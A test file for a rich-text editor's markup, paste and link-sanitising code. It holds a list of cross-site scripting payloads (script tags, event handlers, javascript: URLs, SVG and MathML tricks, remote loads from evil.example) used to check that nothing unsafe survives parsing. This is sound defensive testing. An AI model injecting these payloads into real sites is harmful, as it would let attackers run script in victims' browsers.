import { readFileSync } from 'node:fs'
import { resolve } from 'node:path'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { nasty } from '#test/nasty'
import { emptyDocument, readDocument, referencesIn, safeHref, textOf, type Document } from './document.ts'
import { formatMarkup, parseMarkup } from './markup.ts'
import { parsePasted } from './pasted.ts'

const id = '01890000-0000-7000-8000-000000000000'
const text = (words: string, ...marks: unknown[]) => ({ type: 'text', text: words, ...(marks.length && { marks }) })
const paragraph = (...content: unknown[]) => ({ type: 'paragraph', content })
const tree = (...content: unknown[]) => ({ type: 'doc', content })

/** Ways in that have worked against editors: each must come out as words, or not at all. */
const attacks = [
	'<script>alert(1)</script>',
	'<ScRiPt src=//evil.example/x.js></sCrIpT>',
	'<img src=x onerror=alert(1)>',
	'<svg onload=alert(1)><animate onbegin=alert(1)></svg>',
	'<svg><script href="data:text/javascript,alert(1)"/></svg>',
	'<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
	'<style>@import "//evil.example/x.css";</style>',
	'<link rel=stylesheet href=//evil.example>',
	'<base href=//evil.example/>',
	'<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
	'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
	'<object data="data:text/html,<script>alert(1)</script>"></object>',
	'<embed src="javascript:alert(1)">',
	'<form action="javascript:alert(1)"><button>Go</button></form>',
	'<button formaction=javascript:alert(1)>Go</button>',
	'<details open ontoggle=alert(1)>x</details>',
	'<a href="javascript:alert(1)">a</a>',
	'<a href="java\nscript:alert(1)">b</a>',
	'<a href="&#106;avascript:alert(1)">c</a>',
	'<a href="\u0001javascript:alert(1)">d</a>',
	'<a href="data:text/html,<script>alert(1)</script>">e</a>',
	'<a href="vbscript:msgbox(1)">f</a>',
	'<a href="//evil.example">g</a>',
	'<a href="/\\evil.example">h</a>',
	'<a href="https://user:pass@evil.example/">i</a>',
	'<a href=x onmouseover=alert(1) style="position:fixed;inset:0">j</a>',
	'<p style="background:url(javascript:alert(1))">k</p>',
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
	'<!--><img src=x onerror=alert(1)>-->',
	'<![CDATA[><img src=x onerror=alert(1)>]]>',
	'<xmp><img src=x onerror=alert(1)></xmp>',
	'<template><script>alert(1)</script></template>',
	'</textarea><script>alert(1)</script>',
	'[a](javascript:alert(1))',
	'[a](JaVaScRiPt:alert(1) "t")',
	'[a](data:text/html;base64,PHNjcmlwdD4=)',
	'[a](<javascript:alert(1)>)',
	'![a](javascript:alert(1))',
	'![a](https://evil.example/pixel.gif)',
	'<javascript:alert(1)>',
	'[a]: javascript:alert(1)\n\n[a]',
	'`<script>`\n\n```html\n<script>alert(1)</script>\n```',
	'{{constructor.constructor("alert(1)")()}}',
	'${alert(1)}'
]

/** Only what src/ui/Document.svelte draws, each with its own attributes and nothing else. */
const allowed: Record<string, string[]> = {
	doc: ['type', 'content'],
	paragraph: ['type', 'content'],
	heading: ['type', 'attrs', 'content'],
	bulletList: ['type', 'content'],
	orderedList: ['type', 'content'],
	listItem: ['type', 'content'],
	blockquote: ['type', 'content'],
	horizontalRule: ['type'],
	hardBreak: ['type'],
	image: ['type', 'attrs'],
	file: ['type', 'attrs'],
	embed: ['type', 'attrs'],
	text: ['type', 'text', 'marks'],
	bold: ['type'],
	italic: ['type'],
	link: ['type', 'attrs']
}
const attributes: Record<string, string[]> = {
	heading: ['level'],
	image: ['media', 'alt', 'credit'],
	file: ['media', 'title'],
	embed: ['kind', 'id'],
	link: ['href']
}

function strangeIn(node: unknown): string[] {
	const { type, ...rest } = node as { type: string; attrs?: Record<string, unknown>; content?: unknown[]; marks?: unknown[] }
	const strange = Object.keys(rest).filter((key) => !allowed[type]?.includes(key))
	const attrs = Object.keys(rest.attrs ?? {}).filter((key) => !attributes[type]?.includes(key))
	const href = rest.attrs?.href
	const bad =
		href !== undefined && !/^(?:https?:\/\/|mailto:|\/(?!\/))[^\s<>"\\]*$/i.test(href as string) ? [`href ${String(href)}`] : []
	return [
		...(allowed[type] ? [] : [`node ${type}`]),
		...strange.map((key) => `${type}.${key}`),
		...attrs.map((key) => `${type}.attrs.${key}`),
		...bad,
		...[...(rest.content ?? []), ...(rest.marks ?? [])].flatMap(strangeIn)
	]
}

describe('nothing unknown survives', () => {
	test.for(attacks)('in %s', (attack) => {
		for (const document of [
			parseMarkup(attack),
			parsePasted(attack),
			parsePasted(`<p>avant</p>${attack}<p>après</p>`),
			readDocument(tree(paragraph(text(attack)))),
			readDocument(tree(paragraph(text('a', { type: 'link', attrs: { href: attack } })))),
			readDocument(tree({ type: 'html', attrs: { html: attack }, content: [text(attack)] }))
		])
			expect(strangeIn(document)).toEqual([])
	})

	test('in any tree a program can post', { timeout: 60_000 }, () => {
		const node = fc.letrec((tie) => ({
			node: fc.record(
				{
					type: fc.oneof(fc.constantFrom(...Object.keys(allowed), 'script', 'iframe', '__proto__', 'constructor'), fc.string()),
					text: fc.oneof(fc.string(), fc.constantFrom(...attacks), fc.integer()),
					attrs: fc.oneof(
						fc.dictionary(fc.constantFrom('href', 'level', 'media', 'kind', 'id', 'alt', 'onclick', '__proto__'), fc.anything()),
						fc.record({ href: fc.constantFrom(...attacks, 'javascript:1', 'https://example.org/') }),
						fc.anything()
					),
					marks: fc.oneof(fc.array(tie('node'), { maxLength: 3 }), fc.anything()),
					content: fc.oneof({ depthSize: 'small' }, fc.array(tie('node'), { maxLength: 4 }), fc.anything())
				},
				{ requiredKeys: ['type'] }
			)
		})).node
		fc.assert(
			fc.property(fc.array(node, { maxLength: 4 }), (content) => {
				expect(strangeIn(readDocument({ type: 'doc', content }))).toEqual([])
			}),
			{ numRuns: 100 }
		)
		for (const value of [null, undefined, 0, '', [], 'doc', { content: 'x' }]) expect(readDocument(value)).toEqual(emptyDocument)
	})

	test('in nasty texts, typed or pasted', () => {
		for (const one of nasty) for (const document of [parseMarkup(one), parsePasted(one)]) expect(strangeIn(document)).toEqual([])
	})

	test('an address is linked to when it is of the web, of mail or of this site', () => {
		expect(['https://example.org/а?б=1#в', 'http://example.org', 'mailto:a@example.org', '/fr/news'].map(safeHref)).not.toContain(
			null
		)
		expect(
			[
				'javascript:1',
				'//example.org',
				'/\\example.org',
				'https://a:b@example.org',
				'ftp://example.org',
				'x',
				'',
				' ',
				'http://'
			].map(safeHref)
		).toEqual(Array.from({ length: 9 }, () => null))
	})

	test('a tree deeper or longer than anybody’s text is cut', () => {
		let deep: unknown = paragraph(text('au fond'))
		for (let i = 0; i < 5000; i++) deep = { type: 'blockquote', content: [deep] }
		expect(textOf(readDocument(tree(deep)))).toBe('')
		const long = readDocument(tree(...Array.from({ length: 20_000 }, () => paragraph(text('x')))))
		expect(long.content.length).toBeLessThanOrEqual(5000)
		expect(() => parsePasted('<div>'.repeat(20_000))).not.toThrow()
	})
})

describe('the markup', () => {
	const whole = `## Ce qui a compté

1. **Mesurer la nuit**, quand personne ne consomme.
2. *Publier*, même mauvais : voir [le registre](/fr/record).

> Une citation,
> sur deux lignes.

- un
- deux
  - dedans

---

![Une tour](media:${id} "Зорница")

[Le rapport](media:${id})

https://example.org/bg/events/${id}?x=1`

	test('reads headings, lists, quotations, marks, links, pictures, files and what stands at an address', () => {
		const document = parseMarkup(whole)
		expect(document.content.map(({ type }) => type)).toEqual([
			'heading',
			'orderedList',
			'blockquote',
			'bulletList',
			'horizontalRule',
			'image',
			'file',
			'embed'
		])
		expect(referencesIn(document)).toEqual({ media: [id], embeds: [`event:${id}`] })
	})

	test('says what it read, and reads the same from it', () => {
		const once = parseMarkup(whole)
		expect(parseMarkup(formatMarkup(once))).toEqual(once)
		for (const one of [...attacks, ...nasty]) {
			const read = parseMarkup(one)
			expect(parseMarkup(formatMarkup(read)), one).toEqual(read)
		}
	})

	test('says every tree the editor can hold, so that saving twice changes nothing', { timeout: 60_000 }, () => {
		const word = fc.constantFrom(
			'l’eau',
			'вода',
			'1. non',
			'# non',
			'> non',
			'- non',
			'*',
			'_',
			'[x](y)',
			'<b>',
			'&amp;',
			'\\',
			'`',
			'!',
			'a b'
		)
		const marks = fc.subarray([{ type: 'bold' }, { type: 'italic' }, { type: 'link', attrs: { href: 'https://example.org/' } }])
		const words = fc.array(fc.record({ type: fc.constant('text'), text: word.map((one) => ` ${one} `), marks }), {
			minLength: 1,
			maxLength: 4
		})
		const block = fc.oneof(
			words.map((content) => ({ type: 'paragraph', content })),
			words.map((content) => ({ type: 'heading', attrs: { level: 3 }, content })),
			words.map((content) => ({
				type: 'bulletList',
				content: [{ type: 'listItem', content: [{ type: 'paragraph', content }] }]
			})),
			words.map((content) => ({ type: 'blockquote', content: [{ type: 'paragraph', content }] }))
		)
		fc.assert(
			fc.property(fc.array(block, { maxLength: 5 }), (content) => {
				const once = parseMarkup(formatMarkup(readDocument({ type: 'doc', content })))
				expect(parseMarkup(formatMarkup(once))).toEqual(once)
			}),
			{ numRuns: 200 }
		)
	})
})

describe('what is pasted', () => {
	const words = (html: string): Document => parsePasted(html)

	test('from Word keeps headings, points, bold words and links, without what Word adds', () => {
		const html = `<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><style>p.MsoNormal{margin:0}</style>
<!--[if gte mso 9]><xml><o:shapedefaults/></xml><![endif]--></head><body lang=FR><!--StartFragment-->
<h1>Compte rendu<o:p></o:p></h1>
<p class=MsoNormal><b>Présents</b> : la mairie, <a href="https://example.org/">l’agence</a>.<o:p></o:p></p>
<p class=MsoListParagraphCxSpFirst style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><span style='mso-list:Ignore'>·<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span>Mesurer la nuit<o:p></o:p></p>
<p class=MsoListParagraphCxSpLast style='mso-list:l0 level1 lfo1'><span style='mso-list:Ignore'>·<span>&nbsp;&nbsp; </span></span>Publier les relevés</p>
<!--EndFragment--></body></html>`
		expect(formatMarkup(words(html))).toBe(
			'## Compte rendu\n\n**Présents** : la mairie, [l’agence](https://example.org/).\n\n- Mesurer la nuit\n- Publier les relevés'
		)
	})

	test('from a web page keeps its text and leaves its furniture, scripts and pictures', () => {
		const html = `<div class="post"><script>track()</script><h2 style="color:red">Вода</h2>
<div><p>Първи <span style="font-weight:700">важен</span> абзац.</p><ul><li>едно</li><li><p>две</p></li></ul></div>
<table><tr><td>Година</td><td>2027</td></tr></table><img src="https://evil.example/p.gif" onerror="x()"><p style="display:none">скрито</p></div>`
		expect(formatMarkup(words(html))).toBe('## Вода\n\nПърви **важен** абзац.\n\n- едно\n- две\n\nГодина\n\n2027')
	})

	test('from Google Docs is not all bold', () => {
		expect(formatMarkup(words('<b style="font-weight:normal"><p><span style="font-weight:400">Rien</span></p></b>'))).toBe('Rien')
	})

	test('broken or unending is read as far as it goes', () => {
		expect(textOf(words('<p>un<p>deux<ul><li>trois'))).toBe('un\ndeux\ntrois')
	})
})

const shared = ['../shared', '../../shared'].map((path) => resolve(path, 'data/nasty/blns.json'))
const list = shared.flatMap((path) => {
	try {
		return JSON.parse(readFileSync(path, 'utf8')) as string[]
	} catch {
		return []
	}
})
test.skipIf(list.length === 0)(
	'the public list of naughty strings, typed or pasted, leaves nothing unknown and reads back the same',
	() => {
		for (const one of list) {
			const [typed, pasted] = [parseMarkup(one), parsePasted(one)]
			expect(strangeIn(typed)).toEqual([])
			expect(strangeIn(pasted)).toEqual([])
			expect(parseMarkup(formatMarkup(typed)), one).toEqual(typed)
		}
	}
)
